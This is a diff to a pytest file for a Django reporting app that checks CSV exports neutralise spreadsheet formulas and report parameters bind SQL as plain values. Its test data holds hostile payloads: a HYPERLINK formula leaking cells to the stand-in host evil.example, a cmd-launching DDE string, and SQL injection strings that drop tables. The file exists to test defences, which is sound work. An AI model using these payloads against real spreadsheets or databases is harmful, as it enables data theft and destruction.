@@ -1,7 +1,11 @@
 """Report data is hostile too: formulas in exported cells and SQL in report parameters."""
 
 import csv
+import html
 import io
+import re
+import urllib.request
+from dataclasses import replace
 from io import StringIO
 
 import pytest
@@ -11,10 +15,15 @@ from django.core.management import call_command
 from django.urls import reverse
 
 from dashboard.engines import engine_run
-from dashboard.reports import REPORTS
-from dashboard.selectors import FORMULA_START, PLAIN_NUMBER
+from dashboard.reports import report_query, report_statement
 from ordersite.aws.athena import athena_literal
+from pipeline_admin.models import Upload
 from pipeline_admin.runtime import runtime_drain
+from pipeline_admin.services import uploads_sync
+
+# What a spreadsheet runs as a formula (OWASP CSV injection), and what it reads as a plain number.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
 
 FORMULAS = {
     "F-1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -98,9 +107,8 @@ def test_report_parameters_carrying_sql_are_refused_by_validation(param, client,
 
 def _run(slug: str, **overrides) -> dict:
     """The engine path with bound parameters, as a worker runs it, but skipping validation."""
-    report = REPORTS[slug]
-    values = report.clean_params({}) | overrides
-    result = engine_run(report.sql(), report.bind(values))
+    query = replace(report_query(slug, {}), **overrides)
+    result = engine_run(query, data_version=1)
     return [dict(zip(result.columns, row)) for row in result.rows]
 
 
@@ -110,17 +118,17 @@ def test_sql_in_a_parameter_that_got_past_validation_is_only_ever_a_value(hostil
     for hostile in ("x' OR '1'='1", "x'; DROP VIEW orders; --", "Acme Ltd' --"):
         assert _run("kpis", customer=hostile)[0]["orders"] == 0, hostile
     assert _run("sales-by-customer", customer="' OR customer <> '") == []
-    assert _run("kpis", statuses="confirmed') OR ('1'='1")[0]["orders"] == 0
+    assert _run("kpis", statuses=("confirmed') OR ('1'='1",))[0]["orders"] == 0
+    assert _run("kpis", dimensions=(("region", "x' OR '1'='1"),))[0]["orders"] == 0
     assert _run("kpis", customer="Acme Ltd")[0]["orders"] == 1  # the same path does filter on a real value
     assert _run("kpis") == before  # the table is still there, with the same rows
 
 
 def test_athena_receives_a_parameter_carrying_sql_as_one_string_literal():
     """Athena substitutes execution parameters into the statement: the literal must hold the whole value."""
-    report = REPORTS["kpis"]
     for hostile in ("x' OR '1'='1", "x\\' OR 1=1 --", "x'); DROP TABLE orders; --", "'''"):
-        values = report.clean_params({}) | {"customer": hostile}
-        parts, literals = report.sql().split("?"), [athena_literal(p) for p in report.bind(values)]
+        sql, params = report_statement(replace(report_query("kpis", {}), customer=hostile), data_version=1)
+        parts, literals = sql.split("?"), [athena_literal(p) for p in params]
         assert len(parts) == len(literals) + 1
         text = parts[0] + "".join(literal + part for literal, part in zip(literals, parts[1:]))
         statement = sqlglot.parse_one(text, read="athena")
@@ -130,3 +138,37 @@ def test_athena_receives_a_parameter_carrying_sql_as_one_string_literal():
             if isinstance(eq.this, sqlglot.exp.Column) and eq.this.name == "customer"
         }
         assert customer_values == {hostile}, hostile
+
+
+REJECTED = [  # order_id, amount, order_date, customer: each row is rejected for its amount or date
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "abc", "2025-05-01", "Acme"],
+    ["R2", "=1+1", "2025-05-02", "@SUM(A1:A9)"],
+    ["R3", "-12.50", "someday", "-2+3+cmd|' /C calc'!A0"],
+    ["R4", "+SUM(1;2)", "2025-05-04", "\tTabbed"],
+]
+
+
+def test_the_download_of_all_rejected_rows_neutralises_formulas_and_keeps_negative_numbers(
+    client, twin, uploader, pipeline_admin
+):
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerows([["order_id", "amount", "order_date", "customer"], *REJECTED, ["R5", "10.00", "2025-05-05", "Ok"]])
+    client.force_login(uploader)
+    upload = SimpleUploadedFile("rejects.csv", out.getvalue().encode())
+    client.post(reverse("pipeline_admin:upload"), {"files": [upload], "as_of": "2025-06-01"})
+    runtime_drain()
+    uploads_sync()
+    client.force_login(pipeline_admin)
+    item = Upload.objects.get()
+    page = client.get(reverse("pipeline_admin:upload_detail", args=[item.pk])).content.decode()
+    link = html.unescape(re.search(r'id="rejected-download" href="([^"]+)"', page).group(1))
+    with urllib.request.urlopen(link, timeout=10) as response:
+        rows = list(csv.reader(io.StringIO(response.read().decode())))
+
+    def inert(cell: str) -> str:
+        return "'" + cell if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell) else cell
+
+    # Each rejected row: line, reason code, reason, then the raw cells.
+    assert [row[3:] for row in rows[1:]] == [[inert(cell) for cell in row] for row in REJECTED]
+    assert rows[1][3].startswith("'=HYPERLINK(") and rows[3][4] == "-12.50"  # negative numbers stay numbers
